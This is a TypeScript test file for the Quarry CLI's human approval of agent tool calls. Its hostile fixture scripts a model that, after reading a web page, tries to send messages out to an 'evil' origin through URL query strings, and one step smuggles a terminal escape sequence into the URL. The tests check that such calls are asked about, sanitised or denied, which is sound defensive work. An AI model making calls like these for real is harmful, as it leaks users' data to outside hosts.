import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { askAtTerminal } from '../../src/cli/asking/ask-at-terminal.ts';
import type { Terminal } from '../../src/cli/terminal.ts';
import { startHostileApp } from '../approvals/hostile-app.ts';
import type { HostileApp, ToolStep } from '../approvals/hostile-app.ts';
import { runCommand } from '../http/service-process.ts';

let hostile: HostileApp;

before(async () => {
  hostile = await startHostileApp();
  await hostile.client.createAgent({ name: 'Mika' });
});
after(() => hostile?.stop());

const read = (url: string): ToolStep => ({ name: 'source_summary', input: { query: 'tea', urls: [url] } });
const out = (message: string) => `${hostile.evil.origin}/?q=${message}`;
const ask = (...args: string[]) =>
  runCommand({ QUARRY_URL: hostile.app.origin, QUARRY_API_KEY: hostile.key }, ...args);

const question = () => ({
  inputText: `Read ${hostile.site.origin}/page`,
  locale: 'en' as const,
  model: 'compatible/m1',
});

test('at a terminal a person is asked, and the answer is printed', async () => {
  hostile.modelDoes([read(`${hostile.site.origin}/page`), read(out('\u001b[2J1')), read(out('2'))]);
  const asked: string[] = [];
  const answers = ['what?', 'once', 'd'];
  const told: string[] = [];
  const terminal: Terminal = {
    isInteractive: true,
    tell: (line) => void told.push(line),
    question: async (text) => {
      asked.push(text);
      return answers.shift()!;
    },
  };
  const { text } = await askAtTerminal(hostile.client, question(), terminal);
  assert.match(text, /^This is all\./);
  assert.equal(asked.length, 3, 'an answer that is none is asked for again');
  assert.match(asked[0]!, /^Open http.*\/\?q=/);
  // oxlint-disable-next-line no-control-regex -- what must not be there
  assert.doesNotMatch(asked[0]!, /\u001b/);
  assert.equal(hostile.evil.seen.length, 1);
  assert.deepEqual(told, [`Not done: Open ${out('2')}`]);
});

test('a question that is answered elsewhere is taken back', async () => {
  hostile.modelDoes([read(`${hostile.site.origin}/page`), read(out('elsewhere'))]);
  const terminal: Terminal = {
    isInteractive: true,
    tell: () => undefined,
    async question(_text, signal) {
      const runs = await hostile.client.listRuns({ status: 'running' });
      const runId = runs.runs[0]!.id;
      const { approvalState } = await hostile.client.getRunStatus(runId);
      const { callId } = approvalState!.pending[0]!;
      const done = await ask('approve', runId, callId, 'once');
      assert.deepEqual([done.code, done.stdout], [0, 'Answered: once.\n'], done.stderr);
      const { promise, reject } = Promise.withResolvers<string>();
      if (signal.aborted) reject(signal.reason);
      signal.addEventListener('abort', () => reject(signal.reason));
      return promise;
    },
  };
  const { text } = await askAtTerminal(hostile.client, question(), terminal);
  assert.match(text, /^This is all\./);
  assert.deepEqual(hostile.evil.seen, ['GET /?q=elsewhere']);
});

test('where nobody can answer such calls are denied, and the answer says so', async () => {
  hostile.modelDoes([read(`${hostile.site.origin}/page`), read(out('pipe'))]);
  const { inputText, model } = question();
  const done = await ask('ask', ...inputText.split(' '), '--model', model);
  assert.equal(done.code, 0, done.stderr);
  assert.match(done.stdout, /^This is all\.\n\n\*Not done/);
  assert.match(done.stderr, /^Not done: Open /m);
  assert.deepEqual(hostile.evil.seen, []);
});

test('a key that is missing or wrong is said plainly', async () => {
  const missing = await runCommand({ QUARRY_URL: hostile.app.origin }, 'ask', 'Hello');
  assert.deepEqual([missing.code, missing.stdout], [1, '']);
  assert.match(missing.stderr, /^Set QUARRY_API_KEY/);
  const wrong = await runCommand(
    { QUARRY_URL: hostile.app.origin, QUARRY_API_KEY: `qry_${'0'.repeat(40)}` },
    'approve',
    hostile.scope.userId,
    hostile.scope.userId,
    'deny',
  );
  assert.equal(wrong.code, 1);
  assert.doesNotMatch(wrong.stderr, /at .*\.ts/);
});
